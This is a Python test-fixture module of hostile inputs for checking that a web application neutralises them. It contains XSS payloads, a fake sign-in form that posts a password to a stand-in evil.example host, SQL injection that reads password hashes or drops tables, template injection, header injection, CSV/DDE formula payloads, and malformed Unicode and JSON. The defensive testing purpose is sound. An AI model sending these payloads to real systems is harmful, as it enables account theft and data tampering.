"""Hostile input: what an attacker, a broken client or a careless copy-paste may send.

TEXT holds strings (sent as typed; in form posts, lone surrogates go out as the bytes a
lax encoder would produce). RAW holds byte strings that are not valid UTF-8, sent
unchanged. JSON_VALUES holds values of the wrong type or size for a JSON field, and
JSON_BODIES whole request bodies that are not the JSON object an endpoint expects.
"""

MEGABYTE = 1024 * 1024

# Related vectors share a payload (one per line): each must come out inert next to the others.
TEXT: dict[str, str] = {
    # Markup and script
    "script": "<script>alert(1)</script>\n<ScRiPt >alert(2)</sCrIpT>\n<scr<script>ipt>alert(3)</scr</script>ipt>",
    "event_attributes": (
        '<img src=x onerror="alert(1)">\n<b onmouseover="alert(2)">bold</b> <sub onclick=alert(3)>2</sub>\n'
        '<abbr title="x" onmouseover="alert(4)">UN</abbr>\n<details open ontoggle=alert(5)>x</details>'
    ),
    # Short enough for the shortest fields (a paragraph number takes 20 characters)
    "short_svg": "<svg/onload=alert()>",
    "short_breakout": "'\"><b onclick=x>",
    "attribute_breakout": "\" onmouseover=\"alert(1)\" x=\"' onfocus='alert(2)' autofocus x='",
    "element_breakout": "</textarea><script>alert(1)</script></title><script>alert(2)</script><textarea>",
    "html_comment": "<!--<script>alert(1)//--><!-- --!><img src=x onerror=alert(2)>",
    "svg": (
        "<svg onload=alert(1)><circle r=10 /></svg>\n"
        '<svg><script xlink:href="data:,alert(2)"></script><foreignObject><iframe src="javascript:alert(3)">'
        "</iframe></foreignObject></svg>"
    ),
    "mutation_xss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frames_and_plugins": (
        '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(2)</script>"></iframe>\n'
        '<object data="data:text/html,<script>alert(3)</script>"></object><embed src="javascript:alert(4)">'
    ),
    "form": (
        '<form action="https://evil.example/steal"><input name="password">'
        '<button formaction="javascript:alert(1)">Sign in</button></form>'
    ),
    "style_meta_base": (
        '<style>body{background:url("javascript:alert(1)")}</style>\n'
        '<meta http-equiv="refresh" content="0;url=javascript:alert(2)"><base href="https://evil.example/">\n'
        '<b style="background:url(javascript:alert(3));behavior:url(x.htc)">x</b>'
    ),
    "encoded_tags": (
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(2)&#62; ＜script＞alert(3)＜/script＞"
    ),
    "template_injection": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7}",
    "script_in_code": "`<script>alert(1)</script>` and\n\n```\n<script>alert(2)</script>\n```",
    # Links with dangerous schemes, plain and obfuscated (Markdown, autolinks, references, raw HTML)
    "javascript_links": "\n\n".join(
        [
            "[a](javascript:alert(1))",
            "[b](JaVaScRiPt:alert(2))",
            "[c](&#106;&#97;vascript&#58;alert(3)) [d](jav&#x09;ascript:alert(4))",
            "[e](  java\tscript:alert(5)) [f](<javascript:alert(6)>) [g](java\nscript:alert(7))",
            "[h](%6Aavascript:alert(8)) [i](javascript%3Aalert(9))",
            "<javascript:alert(10)>",
            "[j][x]\n\n[x]: javascript:alert(11)",
            '<a href="javascript:alert(12)">k</a> <a href="jav&#x0A;ascript:alert(13)">l</a>',
        ]
    ),
    "data_and_vbscript_links": (
        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:msgbox(2)) [c](VBScript:x)\n\n"
        "<data:text/html,x> <vbscript:x>\n\n[d][y]\n\n[y]: data:text/html,<b>x</b>\n\n"
        "![e](javascript:alert(3)) ![f](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"
    ),
    "link_title_breakout": '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
    # Markdown that is malformed, deeply nested or expensive to parse
    "md_unclosed": "**bold _italic `code [link](http://x ~~strike\n> quote\n```python\nunclosed fence",
    "md_nested_quotes": ">" * 500 + " deep",
    "md_nested_lists": "\n".join("  " * depth + "- item" for depth in range(100)),
    "md_brackets": "[" * 500,
    "md_emphasis": "*_" * 2000,
    "md_backticks": "`" * 2000 + "x" + "``" * 1000,
    "md_table": "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(2)) |\n" + "| x |" * 500,
    "md_headings_and_html_block": "# h1\n####### h7\n" + "#" * 1000 + "\n\n<div>\n<script>alert(1)</script>\n</div>",
    # Unicode that is hard to store, compare or display
    "bidi_overrides": "Paragraph \u202eevil.exe\u202c and \u2067isolate\u2069 \u202bembed\u202c",
    "invisible_characters": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00ad line\u2028separator\u2029paragraph",
    "combining_marks": "Z" + "\u0336\u0337\u0338\u0334" * 500,
    "astral_cjk_arabic": "𝕏😀🇰🇪 𠀀𠀁 \U0010ffff يجب أن ٢٠٢٦ 中华人民共和国 \ufffe\uffff\ufdd0",
    "controls": "bell\x07 escape\x1b[31mred\x1b[0m backspace\x08 del\x7f c1\x85\x9b CRLF\r\nCR\rVT\x0bFF\x0c",
    "nul_inside": "before\x00after",
    "nul_only": "\x00" * 3,
    "lone_surrogate": "text \ud800 more",
    "lone_surrogate_only": "\udfff",
    "whitespace_only": " \t\n\u00a0\u3000 ",
    "empty": "",
    "header_injection": "x\r\nSet-Cookie: session=evil\r\nLocation: https://evil.example",
    # SQL and search-syntax metacharacters
    "sql_or": "' OR 1=1 --",
    "sql_drop": '"; DROP TABLE comment; --',
    "sql_union_sleep": "1 UNION SELECT email, password_hash FROM user -- 1'; SELECT pg_sleep(10); --",
    "search_syntax": '%_%\\%\\_\\ " OR NEAR(a b) AND * ^ - NOT (" a & !b | (c <-> d):*',
    # Spreadsheet formulas (CSV injection)
    "formula_equals": '=HYPERLINK("https://evil.example","click")',
    "formula_dde": "+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)\t=1+1",
    # Numbers where text is expected
    "number_huge": "9" * 40,
    "number_negative": "-1",
    # Size
    "long_word": "W" * 99_000,
    "many_lines": "line\n" * 20_000,
    "megabyte": ("Lorem ipsum dolor sit amet " * (MEGABYTE // 27 + 1))[:MEGABYTE],
}

RAW: dict[str, bytes] = {
    "invalid_utf8_ff": b"\xff\xfe\xfd",
    "invalid_utf8_truncated": b"caf\xc3",
    "invalid_utf8_cesu_surrogate": b"\xed\xa0\x80\xed\xb0\x80",
    "latin1": "Côte d’Ivoire — café".encode("latin-1", "replace"),
    "utf16": "UTF-16 text".encode("utf-16"),
    "nul_bytes": b"a\x00b\x00",
}

# Where a form or query expects a number (an id, a version, a page).
IDS: dict[str, str] = {
    "zero": "0",
    "negative": "-1",
    "int32_overflow": "2147483648",
    "int64_overflow": "9223372036854775808",
    "huge": "9" * 40,
    "too_many_digits_for_int": "9" * 5000,
    "float": "1.5",
    "exponent": "1e3",
    "hex": "0x10",
    # str.isdigit() is true for these, int() refuses them.
    "superscript_two": "\u00b2",
    "circled_one": "\u2460",
    "arabic_indic_digits": "\u0661\u0662\u0663",
}

# Date-times as a browser's datetime-local input sends them, and dates, at and past the edges.
LOCAL_DATETIMES: dict[str, str] = {
    "year_9999": "9999-12-31T23:59",
    "year_1": "0001-01-01T00:00",
    "february_30": "2026-02-30T10:00",
    "hour_25": "2026-06-01T25:00",
    "six_digit_year": "275760-09-13T00:00",
    "with_offset": "2026-06-01T10:00+05:00",
}
DATES: dict[str, str] = {
    "year_9999": "9999-12-31",
    "year_1": "0001-01-01",
    "february_30": "2026-02-30",
    "six_digit_year": "275760-09-13",
}
# ISO 8601 date-times for the API, including offsets that push the UTC time out of range.
ISO_DATETIMES: dict[str, str] = {
    "year_9999_west": "9999-12-31T23:59:59-12:00",
    "year_9999_utc": "9999-12-31T23:59:59Z",
    "year_1_east": "0001-01-01T00:00:00+14:00",
    "year_1_utc": "0001-01-01T00:00:00Z",
    "offset_25_hours": "2026-06-01T10:00:00+25:00",
    "date_only": "2026-06-01",
    "time_only": "T10:00",
    "week_date": "2026-W01-1",
}

# Values of the wrong type or size for one field of a JSON object.
JSON_VALUES: dict[str, object] = {
    "null": None,
    "true": True,
    "negative": -1,
    "int32_overflow": 2**31,
    "huge_int": 10**40,
    "huge_float": 1e308,
    "empty_string": "",
    "list_of_huge": [2**63, -(2**63) - 1],
    "list_of_lists": [[1]],
    "object": {"$gt": "", "a": [{"b": None}]},
}

# Whole bodies sent to JSON endpoints.
JSON_BODIES: dict[str, bytes] = {
    "empty": b"",
    "null": b"null",
    "list": b"[]",
    "string": b'"text"',
    "number": b"1e999",
    "truncated": b'{"body": "x',
    "trailing_garbage": b'{"body": "x"} garbage',
    "invalid_utf8": b'{"body": "\xff\xfe"}',
    "invalid_utf8_surrogate": b'{"body": "\xed\xa0\x80", "reason": "\xc0\xaf"}',
    "lone_surrogate_escape": b'{"body": "\\ud800", "reason": "\\udfff", "label": "\\ud800", "title": "\\ud800"}',
    "nul_escape": b'{"body": "a\\u0000b", "reason": "\\u0000", "label": "\\u0000", "title": "\\u0000"}',
    "duplicate_keys": b'{"body": "a", "body": {"x": 1}}',
    "deeply_nested": b'{"body": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "nan": b'{"body": NaN, "base_version": Infinity}',
    "bom": "\ufeff".encode() + b'{"body": "x"}',
    "utf16": '{"body": "x"}'.encode("utf-16"),
}

# Payloads that only mean something to a Markdown renderer; fields shown as plain text get the rest.
MARKDOWN_ONLY = {name for name in TEXT if name.startswith("md_")} | {
    "script_in_code",
    "javascript_links",
    "data_and_vbscript_links",
    "link_title_breakout",
}

# A few of each kind, for fields that only take a choice from a list (kind, role, time zone …):
# whatever they are sent must end in a clear refusal, never in a crash.
CHOICE_SAMPLE = (
    "script",
    "attribute_breakout",
    "nul_inside",
    "nul_only",
    "lone_surrogate",
    "bidi_overrides",
    "sql_or",
    "number_huge",
    "number_negative",
    "whitespace_only",
    "empty",
    "long_word",
)
RAW_SAMPLE = ("invalid_utf8_ff", "invalid_utf8_cesu_surrogate", "nul_bytes")


def form_value(value: str | bytes) -> bytes:
    """A payload as the bytes a browser (or a lax client, for lone surrogates) would post."""
    return value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")
